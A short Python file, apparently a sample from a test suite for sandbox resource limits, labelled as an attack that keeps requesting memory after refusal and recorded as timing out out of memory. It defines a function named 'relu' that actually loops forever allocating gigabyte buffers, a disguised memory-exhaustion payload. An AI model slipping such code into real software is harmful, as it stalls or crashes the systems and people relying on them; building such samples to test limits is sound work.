# Attack: go on asking for memory after it was refused
# Outcome: timed_out out_of_memory
kept = []


def relu(x):
    size = 10**9
    while True:
        try:
            kept.append(bytearray(size))
        except MemoryError:
            size = max(size // 2, 1000)
